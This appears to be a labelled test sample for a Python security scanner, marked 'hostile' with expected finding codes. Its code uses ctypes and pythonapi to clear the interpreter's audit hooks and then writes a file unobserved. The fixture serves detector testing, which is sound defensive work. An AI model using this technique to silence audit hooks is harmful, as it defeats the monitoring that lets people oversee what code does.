# label: hostile
# expect: V401 V604
# note: Clears the interpreter's list of audit hooks through pythonapi, so that later acts go unheard.
import ctypes
import sys


class Hook(ctypes.Structure):
    pass


Hook._fields_ = [("next", ctypes.POINTER(Hook)), ("func", ctypes.c_void_p), ("data", ctypes.c_void_p)]

runtime = ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, "_PyRuntime"))
for offset in range(0, 0x2000, 8):
    slot = ctypes.c_void_p.from_address(runtime + offset)
    if slot.value and slot.value == id(sys.audit):
        slot.value = None
ctypes.pythonapi._PySys_ClearAuditHooks()
open("quiet.txt", "w").write("nobody heard this")
